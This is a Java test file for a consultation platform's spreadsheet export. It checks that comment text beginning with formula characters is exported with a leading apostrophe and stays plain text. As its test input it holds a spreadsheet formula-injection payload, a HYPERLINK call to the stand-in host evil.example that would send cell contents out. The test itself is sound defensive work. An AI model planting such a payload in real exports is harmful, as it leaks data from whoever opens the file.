package org.lianluo.platform;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.IOException;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;

import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.Sheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.lianluo.Api;
import org.lianluo.LianluoTest;
import org.lianluo.ScreenSession;
import org.lianluo.Staff;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Issue 18, point 9: what people typed goes into a spreadsheet as text, never as a formula: a cell that starts
 * with {@code = + - @}, a tab or a carriage return is written with a leading {@code '}.
 */
@LianluoTest
class ExportCellTests {

	private static final String HYPERLINK = "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"点击查看\")";

	@LocalServerPort
	int port;

	@Test
	void aCitizensCommentThatLooksLikeAFormulaIsExportedAsText() throws IOException {
		String name = Staff.unique("assessor");
		Api assessor = Staff.user(port, name, "451000", "ASSESSOR");
		String id = assessor.post("/api/v1/consultations", Map.of("title", Staff.unique("公式"), "issuer", "市人大常委会法工委",
				"regionCode", "451000", "opensOn", LocalDate.now().minusDays(1).toString(), "closesOn",
				LocalDate.now().plusDays(30).toString(), "articles", List.of(Map.of("number", 1, "text", "为了加强治理，制定本条例。"))))
			.json().get("id").asText();
		assessor.post("/api/v1/consultations/" + id + "/publish", Map.of());
		Api.Response comment = new Api(port).post("/api/v1/public/consultations/" + id + "/comments",
				Map.of("articleNumber", 1, "text", HYPERLINK));
		assertThat(comment.status()).as(comment.toString()).isEqualTo(201);

		List<Cell> cells = cells(ScreenSession.signedIn(port, name, "password-123").bytes("/manage/consultations/" + id
				+ "/comments.xlsx"));
		Cell exported = cells.stream().filter(c -> c.getCellType() == CellType.STRING && c.getStringCellValue().contains("HYPERLINK"))
			.findFirst().orElseThrow();
		assertThat(exported.getStringCellValue()).isEqualTo("'" + HYPERLINK);
		assertThat(cells).noneMatch(c -> c.getCellType() == CellType.FORMULA);
	}

	@Test
	void everyCellThatWouldStartAFormulaIsPrefixedAndNumbersStayNumbers() throws IOException {
		List<List<Object>> rows = List.of(List.of("=1+1", "+86 138", "-2", "@SUM(A1)", "\tx", "\rx", "普通文字", 42, -3.5));
		List<Cell> cells = cells(Sheets.write("测试", List.of("=标题"), rows, List.of("说明", "-注")));
		assertThat(cells.stream().map(c -> c.getCellType() == CellType.NUMERIC ? String.valueOf(c.getNumericCellValue())
				: c.getStringCellValue()).toList()).containsExactly("'=标题", "'=1+1", "'+86 138", "'-2", "'@SUM(A1)", "'\tx",
						"'\rx", "普通文字", "42.0", "-3.5");
	}

	private static List<Cell> cells(byte[] xlsx) throws IOException {
		try (XSSFWorkbook book = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
			List<Cell> cells = new ArrayList<>();
			Sheet sheet = book.getSheetAt(0);
			sheet.forEach(row -> row.forEach(cells::add));
			return cells;
		}
	}
}
